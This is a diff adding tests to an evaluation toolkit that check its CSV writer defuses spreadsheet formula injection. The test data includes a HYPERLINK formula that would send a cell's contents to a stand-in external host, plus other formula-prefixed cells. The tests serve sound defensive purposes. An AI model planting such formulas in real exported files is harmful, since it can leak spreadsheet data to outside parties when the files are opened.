@@ -5,6 +5,7 @@ forged name or document; each fails when its guard is removed."""
 from __future__ import annotations
 
 import copy
+import csv
 import io
 import json
 import re
@@ -244,3 +245,37 @@ def test_no_field_of_a_forged_document_adds_markdown(forged_base):
             leaks.append(path)
     assert not leaks
     assert shown >= 20               # the sweep reached the fields report.md prints
+
+
+# --------------------------------------------------------------------------------- CSV
+
+FORMULAS = ['=HYPERLINK("https://e.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_formula_cell_is_written_as_text(value):
+    from evalkit.runlog.csv_cells import to_csv
+
+    text = to_csv(pd.DataFrame({"policy": [value, "plain"], "v": [-0.25, 0.5]}))
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[1] == ["'" + value, "-0.25"]          # inert text; a negative number stays
+    assert rows[2] == ["plain", "0.5"]
+
+
+@pytest.mark.parametrize("to_file", [True, False], ids=["--out table.csv", "stdout"])
+def test_summarize_writes_a_formula_policy_name_inert(tmp_path, to_file):
+    """The reported case: a valid policy name ``=HYPERLINK(...)`` landed as a live formula."""
+    name = FORMULAS[0]
+    runs = tmp_path / "runs"
+    fixture_model.write(runs, run_id="p-s0", policy=name, role="policy", seed=0, regime="r",
+                        starts=fixture_model.schedule("fixed", 0, None))
+    args = ["summarize", str(runs)] + (["--out", str(tmp_path / "table.csv")] if to_file
+                                       else ["--format", "csv"])
+    res = CliRunner().invoke(cli, args)
+    assert res.exit_code == 0, res.output
+    text = (tmp_path / "table.csv").read_text() if to_file else res.stdout
+    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["policy"] == "'" + name and row["run_id"] == "p-s0"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()
+                   if not re.fullmatch(r"-?[\d.e+-]+|-?inf", cell))
